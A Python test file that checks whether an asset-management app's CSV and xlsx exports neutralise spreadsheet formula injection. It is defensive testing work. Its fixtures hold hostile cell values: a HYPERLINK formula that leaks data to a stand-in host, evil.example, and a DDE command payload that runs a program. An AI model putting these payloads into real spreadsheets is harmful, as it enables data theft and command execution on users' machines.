"""Formula injection in every CSV and xlsx the app writes (issue 13, finding 7).

A spreadsheet runs a cell starting with ``= + - @`` (or a tab or carriage return) as a
formula: ``=HYPERLINK(…)`` phones home, ``=cmd|' /C calc'!A0`` runs a program. Every writer
goes through ``core.export``: a CSV cell gets a leading apostrophe, an xlsx text cell Excel's
quote prefix. Each writer is read back here the way a spreadsheet or a program would, with
``csv`` and openpyxl; ``flask assets export`` → ``assets import`` still gives the values back
(``=1+1`` and ``-3`` included) and the same bytes again.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select

from assets.models import Asset
from core.audit import AuditEntry
from core.export import FORMULA_START, formula_restored, formula_safe
from core.extensions import db
from tests import factories

# Field → a value a spreadsheet would run or read as a formula.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "address": "+86 536 1234567",
    "manufacturer": "=cmd|' /C calc'!A0",
    "model": "-3",
    "serial_number": "@SUM(1+1)",
    "notes": "=1+1",
}
# Exported under the same column name in `flask assets export`.
HOSTILE_COLUMNS = dict(HOSTILE)


@pytest.fixture
def hostile_asset(app, district):
    with app.app_context():
        factories.gen_asset(factories.charging_station_data(1, **HOSTILE))
        factories.gen_asset(factories.charging_station_data(2, name="Plain station"))
        db.session.commit()


def export(runner, fmt: str, *extra: str) -> str:
    result = runner.invoke(args=["assets", "export", "--format", fmt, *extra])
    assert result.exit_code == 0, result.output
    return result.output


def sheet_rows(data: bytes) -> list[list]:
    """Every row of the workbook's first sheet, as cells (value, type, quote prefix)."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def assert_csv_neutralised(cells: dict[str, str]) -> None:
    for column, value in HOSTILE_COLUMNS.items():
        written = cells[column]
        assert written == "'" + value, (column, written)
        assert not written.startswith(FORMULA_START)


def assert_xlsx_neutralised(cells: dict) -> None:
    for column, value in HOSTILE_COLUMNS.items():
        cell = cells[column]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column


@pytest.mark.parametrize(
    "text",
    ["=1+1", "-3", "+1", "@A1", "\t=1", "\r=1", "'=1", "''-2", "'plain", "plain", "", "a=b"],
)
def test_formula_safe_and_restored_are_twins(text):
    written = formula_safe(text)
    assert not written.startswith(FORMULA_START)
    assert formula_restored(written) == text
    if not text.lstrip("'").startswith(FORMULA_START):
        assert written == text  # ordinary text is written as it is


def test_cli_csv_export_neutralises_every_formula(app, runner, hostile_asset):
    rows = list(csv.DictReader(io.StringIO(export(runner, "csv"))))
    assert [row["code"] for row in rows] == ["CS-001", "CS-002"]
    assert_csv_neutralised(rows[0])
    assert rows[1]["name"] == "Plain station"
    assert rows[0]["longitude"] == repr(factories.INSIDE_G1_01[0])  # numbers stay numbers


def test_cli_chinese_csv_export_neutralises_every_formula(app, runner, hostile_asset):
    text = export(runner, "csv", "--lang", "zh").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    values = set(rows[1])
    for value in HOSTILE.values():
        assert "'" + value in values and value not in values


def test_cli_xlsx_export_marks_every_formula_as_text(app, runner, hostile_asset, tmp_path):
    path = tmp_path / "assets.xlsx"
    result = runner.invoke(args=["assets", "export", "--format", "xlsx", "--output", str(path)])
    assert result.exit_code == 0, result.output
    header, first, second = sheet_rows(path.read_bytes())
    names = [cell.value for cell in header]
    assert_xlsx_neutralised(dict(zip(names, first, strict=True)))
    plain = dict(zip(names, second, strict=True))["name"]
    assert (plain.value, plain.quotePrefix) == ("Plain station", False)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_round_trip_keeps_formula_text(app, runner, hostile_asset, tmp_path, fmt):
    """`=1+1`, `-3` and the rest come back as they were, and the export is the same bytes."""
    path = tmp_path / f"assets.{fmt}"
    first = runner.invoke(args=["assets", "export", "--format", fmt, "--output", str(path)])
    assert first.exit_code == 0, first.output
    written = path.read_bytes()
    with app.app_context():
        db.session.execute(delete(AuditEntry))
        db.session.execute(delete(Asset))
        db.session.commit()
    result = runner.invoke(args=["assets", "import", str(path)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        asset = db.session.scalar(select(Asset).where(Asset.code == "CS-001"))
        assert {field: getattr(asset, field) for field in HOSTILE} == HOSTILE
    again = tmp_path / f"again.{fmt}"
    second = runner.invoke(args=["assets", "export", "--format", fmt, "--output", str(again)])
    assert second.exit_code == 0, second.output
    assert again.read_bytes() == written


@pytest.fixture
def hostile_lists(app, district):
    """An asset, its inspection and a hazard whose texts are formulas, for the list exports."""
    with app.app_context():
        factories.gen_user("officer@example.org", "officer")
        factories.gen_asset(factories.charging_station_data(1, **HOSTILE))
        factories.gen_inspection("CS-001", date(2026, 1, 5), contractor="=cmd|' /C calc'!A0")
        factories.gen_hazard("HZ-2026-0001", "general", "CS-001", description="-2+3")
        db.session.commit()


EN = {"Accept-Language": "en"}
LIST_EXPORTS = {
    "/assets/export": {"Name": HOSTILE["name"], "Address": HOSTILE["address"]},
    "/inspections/export": {"Asset name": HOSTILE["name"], "Contractor": "=cmd|' /C calc'!A0"},
    "/hazards/export": {"Description": "-2+3"},
}


@pytest.mark.parametrize("path", sorted(LIST_EXPORTS))
def test_list_exports_neutralise_formulas(client, auth, hostile_lists, path):
    auth.login("officer@example.org")
    expected = LIST_EXPORTS[path]
    response = client.get(f"{path}.csv", headers=EN)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    for column, value in expected.items():
        assert rows[0][column] == "'" + value, column
    response = client.get(f"{path}.xlsx", headers=EN)
    assert response.status_code == 200
    header, first, *_rest = sheet_rows(response.data)
    cells = dict(zip([cell.value for cell in header], first, strict=True))
    for column, value in expected.items():
        cell = cells[column]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column
